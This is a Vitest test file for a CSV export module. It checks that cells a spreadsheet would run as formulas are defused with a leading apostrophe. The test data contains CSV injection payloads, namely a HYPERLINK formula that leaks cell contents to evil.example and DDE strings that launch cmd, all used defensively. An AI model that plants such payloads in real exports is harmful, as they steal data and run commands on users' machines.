import { describe, expect, it } from 'vitest';
import {
  csvField,
  formatCsvRecords,
  parseCsv,
  restoreFormula,
} from '../../src/main/engine/reports/csv';

// Issue 10, item 4: a cell a spreadsheet would run as a formula is written with a leading "'".
describe('CSV formula cells', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?"&A1,"open")',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`,
    ],
    ['+cmd|" /C calc"!A0', `"'+cmd|"" /C calc""!A0"`],
    ['-2+3+cmd|" /C calc"!A0', `"'-2+3+cmd|"" /C calc""!A0"`],
    ['@SUM(1+1)*cmd', "'@SUM(1+1)*cmd"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('defuses %j', (value, written) => {
    expect(csvField(value)).toBe(written);
    const [record] = parseCsv(`${csvField(value)}\r\n`).records;
    expect(restoreFormula(record?.fields[0] ?? '')).toBe(value);
  });

  it.each(['-0.5', '+3', '-12', '1e-3', '-.25', '0.7', 'plain text', 'a=b', ''])(
    'leaves %j as it is',
    (value) => expect(csvField(value)).toBe(value),
  );

  it('defuses whole records', () => {
    expect(
      formatCsvRecords([
        ['rate', 'note'],
        ['-0.5', '=1+1'],
      ]),
    ).toBe("rate,note\r\n-0.5,'=1+1\r\n");
  });
});
